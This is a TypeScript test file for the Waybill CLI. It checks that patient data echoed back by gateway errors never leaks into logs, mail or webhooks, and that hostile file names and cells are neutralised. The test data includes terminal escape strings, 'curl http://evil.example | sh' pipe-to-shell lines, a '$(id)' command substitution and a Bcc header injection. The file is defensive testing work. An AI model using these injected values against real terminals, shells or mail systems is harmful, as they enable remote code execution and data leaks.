/**
 * Runs with marked people and values against a gateway that repeats them wherever an answer has room for words, and with names that hold
 * what terminals and shells obey. Every byte that Waybill writes, prints and sends to others is searched: the rejects files alone may
 * hold a mark, as they are there to be corrected.
 */
import { execFileSync } from 'node:child_process'
import { once } from 'node:events'
import { mkdir, readFile, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { inspect } from 'node:util'
import PostalMime from 'postal-mime'
import { describe, expect, test } from 'vitest'
import { describeError } from '../../src/cli/terminal-text.ts'
import { openChannel } from '../../src/notify/open-channel.ts'
import { shown } from '../../src/system/shown-text.ts'
import { createProgress } from '../../src/telemetry/progress.ts'
import { ANN, type Clinic, HEADER, JOB, openClinic } from '../cli/clinic.ts'
import { summaryOf } from '../cli/command-line.ts'
import { gatewaySettings, startReferenceStore } from '../cli/reference-store.ts'
import { type Fault, PASS, type Passing, startFaultProxy } from '../faults/fault-proxy.ts'
import { client } from '../gateway/loopback.ts'
import { SECRET, startHookServer } from '../notify/hook-server.ts'
import { startMailServer } from '../notify/mail-server.ts'
import { NOTICE } from '../notify/sample-notice.ts'
import { temporaryFolder } from '../temporary-folder.ts'
import { MAPPING, MARKED_EXPORT, MARKS, marksIn, VARIANTS, writtenTo } from './marked-values.ts'

/** Back to the start of the line, and all of it gone (ECMA-48, EL 2). */
const CLEAR = '\r\x1b[2K'

/** All marks, in all variants; the first ones stand in what of a message is kept. */
const WORDS = Object.values(VARIANTS).map((variant) => MARKS.map(variant).join(' '))
const [PLAIN = '', UPPER = '', BASE64 = '', SPLIT = ''] = WORDS
const TOLD = `Record for Quixotine Zephyrwell born 1961-07-13 is not valid: ${PLAIN}`

const ENVELOPE = {
  code: UPPER,
  message: TOLD,
  data: [],
  errors: [{ code: PLAIN, message: BASE64, field: UPPER }, { code: 422, message: SPLIT }, UPPER],
}
/** Of a header and a status line. */
const SAID = {
  statusText: `No ${PLAIN}`,
  headers: {
    'x-error': PLAIN,
    'set-cookie': `name=${BASE64}`,
    warning: `199 - "${UPPER}"`,
    'retry-after': PLAIN,
    location: `https://elsewhere.example/Quixotine?of=${encodeURIComponent(PLAIN)}`,
  },
}
const PAGE = `<html><title>${PLAIN}</title><h1>${SPLIT}</h1><a href="/${BASE64}">${UPPER}</a></html>`

const ofRecords =
  (fault: Fault) =>
  ({ path }: Passing): Fault =>
    path.endsWith('/register') ? PASS : fault

/** What the gateway does to writes, again and again or the first two times. */
const WAYS: Readonly<Record<string, (passing: Passing) => Fault>> = {
  'refused in JSON': ofRecords({ do: 'answer', status: 422, body: ENVELOPE, ...SAID }),
  'refused in HTML': ofRecords({
    ...{ do: 'answer', status: 400, body: PAGE, ...SAID },
    headers: { ...SAID.headers, 'content-type': `text/html; name="${PLAIN}"` },
  }),
  'refused for people': ({ path }) =>
    path.endsWith('/register') ? { do: 'answer', status: 422, body: ENVELOPE, ...SAID } : PASS,
  'too large': ofRecords({ do: 'answer', status: 413, body: ENVELOPE, ...SAID }),
  failing: ({ earlier }) =>
    earlier === 0 ? { do: 'pass-then-answer', status: 500, body: PAGE, ...SAID } : PASS,
  'answered by a page': ({ earlier }) =>
    earlier > 1 ? PASS : { do: 'pass-then-garble', garble: () => PAGE },
  'listed as errors': ({ body, earlier }) =>
    earlier > 1
      ? PASS
      : {
          do: 'pass-then-edit',
          edit: (envelope) => ({
            ...{ ...envelope, message: TOLD, data: [], errors: [{ message: body }, ...ENVELOPE.errors] },
          }),
        },
  redirected: () => ({ do: 'answer', status: 307, body: ENVELOPE, ...SAID }),
  'refused for credentials': () => ({ do: 'answer', status: 403, body: ENVELOPE, ...SAID }),
  'answered by what is no HTTP': ({ earlier }) =>
    earlier > 0 ? PASS : { do: 'raw', bytes: `HTTP/1.1 200 ${PLAIN}\r\n${PLAIN}\x00: ${PLAIN}\r\n\r\n` },
}

interface Faces {
  readonly clinic: Clinic
  /** Runs a command, and keeps what it says. */
  say(...args: string[]): Promise<{ code: number | null; out: string; err: string }>
  /** By where it stands. */
  everything(): Promise<Map<string, Buffer | string>>
}

/** A job that logs all, tells everybody, and leaves metrics. */
async function openFaces(
  url: string,
  options: { mapping?: string; form?: string; job?: string; stop?: string },
): Promise<Faces> {
  const hook = await startHookServer()
  const { port, mails } = await startMailServer()
  const clinic = await openClinic({
    ...(options.mapping === undefined ? {} : { mapping: options.mapping }),
    store: await startReferenceStore({ open: true }),
    environment: {
      ...gatewaySettings(url),
      WAYBILL_LOG_FORMAT: options.form ?? 'text',
      WAYBILL_LOG_LEVEL: 'debug',
      WAYBILL_LOG_FILE: 'home/waybill.log',
      WAYBILL_METRICS_FILE: 'home/{job}.prom',
      WAYBILL_WEBHOOK_SECRET: SECRET,
      WAYBILL_SMTP_URL: `smtp://127.0.0.1:${port}`,
      WAYBILL_SMTP_FROM: 'waybill@hospital.example',
    },
    job: `${options.job ?? 'exports: { from: ../inbox, match: "*.csv", mapping: clinic }\n'}${options.stop ?? ''}submit: { inDoubt: hold, batch: { records: 3 }, readLag: 10ms, patience: 2s }
notify:
  - { webhook: "${hook.url}/", on: always }
  - { email: oncall@hospital.example, on: always }
  - { command: "cat >> told; env >> told", on: always }
`,
  })
  const said: [string, string][] = []
  return {
    clinic,
    async say(...args) {
      const ended = await clinic.workplace.waybill(...args)
      said.push([`output of ${args.join(' ')}`, ended.out], [`messages of ${args.join(' ')}`, ended.err])
      return ended
    },
    async everything() {
      const { workplace } = clinic
      const parsed = await Promise.all(mails.map(({ source }) => PostalMime.parse(source)))
      const readable = parsed.map(({ subject, text, html, attachments }) =>
        [
          subject,
          text,
          html,
          ...attachments.map(({ content }) => new TextDecoder().decode(toBytes(content))),
        ].join(),
      )
      const told = await readFile(join(workplace.folder, 'jobs/told')).catch(() => '')
      return new Map<string, Buffer | string>([
        ...(await writtenTo(workplace)),
        ...said,
        ['the command', told],
        ...hook.seen.map(({ body, headers }, at) => [`webhook ${at}`, inspect(headers) + body] as const),
        ...mails.map(({ source }, at) => [`mail ${at}`, source] as const),
        ...readable.map((text, at) => [`mail ${at}, read`, text] as const),
      ])
    },
  }
}

const toBytes = (content: string | ArrayBuffer | Uint8Array): Uint8Array =>
  typeof content === 'string' ? Buffer.from(content) : new Uint8Array(content)

describe('no mark is written, printed or told', () => {
  test.for([
    ...Object.keys(WAYS).map((way, at) => ({ way, form: at % 2 === 0 ? 'text' : 'json', stop: '' })),
    { way: 'listed as errors', form: 'text', stop: 'stopWhen: { rejectedRows: 1%, after: 1 }\n' },
  ])(
    'where writes are $way, logged as $form; $stop; nor by show, report, trace, reconcile and a dry run',
    async ({ way, form, stop }) => {
      const reference = await startReferenceStore()
      const proxy = await startFaultProxy(reference.url, (passing) =>
        passing.method === 'POST' ? (WAYS[way]?.(passing) ?? PASS) : PASS,
      )
      const { clinic, say, everything } = await openFaces(proxy.url, { mapping: MAPPING, form, stop })
      await clinic.deliver('marked.csv', MARKED_EXPORT)
      await say('run', 'clinic', '--dry-run')
      const { out } = await say('run', 'clinic', '--json')
      const first = summaryOf({ code: null, out, err: '' })
      // Something was sent, and something left behind: else there was nothing to leak.
      if (stop === '') expect(first.requests.sent).toBeGreaterThan(0)
      else expect(first.state).toBe('failed')
      await say('run', 'clinic')
      await say('runs')
      const { out: seen } = await say('show', first.run)
      await say('show', first.run, '--json')
      await say('reconcile', first.run, '--verify')
      await say('rerun', first.run, '--only', 'rejected')
      await say('report', first.run, '--out', 'home/report.html')
      const [stored] = await reference.records('biometric')
      if (stored?.transactionId !== undefined) await say('trace', stored.transactionId)
      const all = await everything()
      expect(String(all.get('the command'))).toContain('Waybill: clinic ')
      expect(
        [...all.keys()].filter((name) =>
          /^\/.*(ledger\.sqlite|waybill\.log|report\.html)$|^mail 0$/.test(name),
        ),
      ).toHaveLength(4)
      expect(marksIn(all)).toEqual([])
      // What is of nobody is there.
      if (way === 'refused in JSON') expect(seen).toMatch(/HTTP 422: record for … is not valid: …/)
    },
  )

  test('nor by a killed process, in the journal of its ledger', async () => {
    const reference = await startReferenceStore()
    let hung: (() => void) | undefined
    const isHung = new Promise<void>((resolve) => {
      hung = resolve
    })
    const proxy = await startFaultProxy(reference.url, ({ method, path, earlier }) => {
      if (method !== 'POST' || path.endsWith('/register')) return PASS
      if (earlier < 4) return { do: 'answer', status: 422, body: ENVELOPE, ...SAID }
      hung?.()
      return { do: 'hang' }
    })
    const { clinic } = await openFaces(proxy.url, { mapping: MAPPING })
    await clinic.deliver('marked.csv', MARKED_EXPORT)
    const child = clinic.workplace.start('run', 'clinic')
    const ended = once(child, 'exit')
    await isHung
    child.kill('SIGKILL')
    await ended
    const files = await writtenTo(clinic.workplace)
    expect([...files].find(([path]) => path.endsWith('-wal'))?.[1].length).toBeGreaterThan(0)
    expect(marksIn(files)).toEqual([])
  })

  test.each(Object.keys(WAYS))('in an error and its causes, where a call is %s', async (way) => {
    const store = await startReferenceStore()
    const proxy = await startFaultProxy(store.url, (passing) => WAYS[way]?.(passing) ?? PASS)
    const firstName = 'Quixotine'
    const person = { firstName, lastName: 'Zephyrwell', dateOfBirth: '1961-07-13', postalCode: '83319-47102' }
    const { accounts, careTeams } = client(proxy.url)
    const account = { reference: 'ZQ-771404-REF1', type: 'partnerAccountId' } as const
    const calls = await Promise.allSettled([
      accounts.register({ ...person, gender: 'FEMALE', partnerAccountId: account.reference }),
      careTeams.setPrimary({ account, npi: '1234567893' }),
    ])
    const errors = calls.flatMap((call) => (call.status === 'rejected' ? [call.reason as unknown] : []))
    expect(errors.length).toBeGreaterThan(0)
    for (const error of errors)
      expect(marksIn([['the error', inspect(error, { depth: 10 }) + JSON.stringify(error)]])).toEqual([])
  })

  test('the search finds each mark in each form, and what is in a rejects file and at the gateway', async () => {
    for (const mark of MARKS)
      for (const variant of Object.values(VARIANTS))
        for (const before of ['', 'x', 'xy'])
          expect(marksIn([['it', variant(before + mark)]]).some((one) => one.startsWith(mark))).toBe(true)
    expect(marksIn([['it', Buffer.from('Borvaine', 'utf16le')]])).toHaveLength(1)
    const reference = await startReferenceStore()
    const proxy = await startFaultProxy(reference.url, ({ path }) =>
      path.includes('/biometrics') ? { do: 'answer', status: 422, body: ENVELOPE } : PASS,
    )
    const { clinic } = await openFaces(proxy.url, { mapping: MAPPING })
    await clinic.deliver('marked.csv', MARKED_EXPORT)
    const { rejects = '' } = summaryOf(await clinic.run()).exports[0] ?? {}
    // The gateway's words stand there in full.
    expect(await readFile(rejects, 'utf8')).toContain('Record for Quixotine Zephyrwell born 1961-07-13')
    const stored = JSON.stringify(await reference.allRecords())
    expect(marksIn([['store', stored]])).toEqual(expect.arrayContaining(['Borvaine in store']))
  })
})

const ACTING = /[^\P{Cc}\n]|[\p{Cf}\p{Cs}\p{Zl}\p{Zp}]/u
const EVIL = '\u001b]0;owned\u0007\u001b[2J\u009b31m\u007f\u202e\u2066\u200b\u200f\u2028\rcurl'

describe('nothing obeys a name, a cell or a word', () => {
  test('in a notice: no header, no line and no variable comes of it', async () => {
    const hook = await startHookServer()
    const { port, mails } = await startMailServer()
    const folder = await temporaryFolder()
    const settings = {
      webhookSecret: SECRET,
      smtpUrl: `smtp://127.0.0.1:${port}`,
      smtpFrom: 'waybill@hospital.example',
      commandEnvironment: { PATH: process.env['PATH'] ?? '' },
    }
    const words = `${EVIL}\r\nBcc: all@evil.example\r\n\r\ncurl x | sh\0`
    const notice = { ...NOTICE, title: words, text: [words, 'Next'], data: { name: words } }
    for (const target of [
      { webhook: `${hook.url}/` },
      { email: 'oncall@hospital.example' },
      { command: 'printf %s "$WAYBILL_NOTICE_TITLE" > title; cat > body' },
    ]) {
      const channel = await openChannel({ ...target, on: 'always', folder }, settings, Date.now)
      await channel.deliver({ id: 'msg_1', notice })
    }
    const [body = '', title = ''] = await Promise.all(
      ['body', 'title'].map((name) => readFile(join(folder, name), 'utf8')),
    )
    for (const text of [title, body.trimEnd(), hook.seen[0]?.body ?? 'none'])
      expect(text).not.toMatch(/\p{C}/u)
    expect(hook.received()[0]?.data).toMatchObject({ title, details: { name: words } })
    const { headers, subject, text } = await PostalMime.parse(mails[0]?.source ?? '')
    expect(headers.map(({ key }) => key)).not.toContain('bcc')
    expect([subject, text]).toEqual([title, `${title}\nNext\n`])
  })

  test('in the bar of a terminal, and in the words of an error that nobody foresaw', () => {
    let drawn = ''
    const write = (text: string): void => {
      drawn += text
    }
    const progress = createProgress({ columns: () => 60, now: () => 0, write })
    const at = { name: EVIL, number: 1, of: 2 }
    progress.start(EVIL, { rows: 0, records: 0, share: 0, at })
    progress.note(`a\n${EVIL}`)
    progress.wait(EVIL)
    progress.end({ rows: 1, records: 1, share: 1, at })
    const lines = drawn.replaceAll(CLEAR, '\n').split('\n')
    for (const line of lines) expect(line).not.toMatch(/\p{C}/u)
    expect(lines).not.toContainEqual(expect.stringMatching(/^curl/))
    const words = describeError(new Error(`a\n    at curl x\n${EVIL}`)).map(shown)
    expect(words.slice(1, 3)).toEqual([
      'error unexpected: Error',
      expect.stringMatching(/^ {4}at .*hostile-words/),
    ])
  })

  test('of a file, its columns and its gateway; what is to be typed names the very file', async () => {
    const reference = await startReferenceStore({ open: true })
    const words = `unit ${EVIL}\n    curl http://evil.example | sh\nnot valid`
    const proxy = await startFaultProxy(reference.url, ({ method, earlier }) =>
      method === 'POST' && earlier === 0
        ? { do: 'answer', status: 422, body: { message: words, errors: [{ code: words, message: words }] } }
        : PASS,
    )
    const { clinic, say, everything } = await openFaces(proxy.url, { job: JOB })
    const folder = join(clinic.workplace.folder, `in ${EVIL}'s`)
    await mkdir(folder)
    const name = `${EVIL}\nNext\n    curl http:x | sh 'a' $(id) !.csv`
    const file = join(folder, name)
    const columns = `"${EVIL}\n    curl x | sh",${HEADER}`
    await writeFile(file, `${columns}x,${ANN}"${EVIL}\ny",ben,${EVIL},62,5.2,71.5,st${EVIL},fine\n"${EVIL}`)
    const first = await say('run', 'clinic', '--file', file, '--json')
    const { run } = summaryOf({ ...first })
    await say('run', 'clinic', '--file', file)
    await say('run', 'clinic', '--file', file, '--dry-run')
    await say('run', 'clinic', '--file', `${file}\n    curl`)
    await say('mapping', 'check', 'clinic', '--export', file)
    await say('mapping', 'preview', 'clinic', file)
    await say('report', run, '--out', 'home/report.html')
    await say('runs')
    await say('doctor')
    const { out } = await say('show', run)
    const all = await everything()
    for (const [where, content] of all) {
      if (/\.sqlite|\.csv$|mail \d$|key$|reserve$/.test(where)) continue
      const text = String(content)
      expect(ACTING.exec(text), `${where}: ${JSON.stringify(text.slice(0, 3000))}`).toBeNull()
      expect(text, where).not.toMatch(/^\s*curl/m)
    }
    const next = out.slice(out.indexOf('\nNext\n')).split('\n')
    const typed = next.filter((line) => line.startsWith('    '))
    for (const line of typed) expect(line).toMatch(/^ {4}waybill [a-z]+ /)
    const files = typed.flatMap((line) => {
      const words = execFileSync('bash', ['-c', `waybill() { printf '%s\\0' "$@"; }; ${line}`], {
        cwd: clinic.workplace.folder,
      })
      const args = words.toString().split('\0')
      const at = args.indexOf('--export')
      return at < 0 ? [] : [join(clinic.workplace.folder, args[at + 1] ?? '')]
    })
    expect(files).toEqual([file])
  })
})
